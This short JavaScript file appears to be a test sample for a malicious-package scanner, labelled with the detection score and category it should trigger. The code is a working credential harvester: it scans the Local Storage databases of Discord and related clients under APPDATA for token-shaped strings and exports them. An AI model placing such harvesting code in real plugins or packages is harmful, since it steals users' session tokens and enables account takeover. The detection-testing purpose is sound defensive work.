// expect: category=filesystem min=85 context=plugin,package
// why: chat-client token stores under APPDATA are scanned with a token-shaped regular expression.
const fs = require('fs');
const path = require('path');

const roots = ['discord', 'discordcanary', 'Lightcord'].map((n) =>
  path.join(process.env.APPDATA || '', n, 'Local Storage', 'leveldb')
);

const tokens = new Set();
for (const dir of roots) {
  if (!fs.existsSync(dir)) continue;
  for (const f of fs.readdirSync(dir).filter((x) => /\.(ldb|log)$/.test(x))) {
    const text = fs.readFileSync(path.join(dir, f), 'latin1');
    for (const m of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g)) tokens.add(m[0]);
  }
}

module.exports = [...tokens];
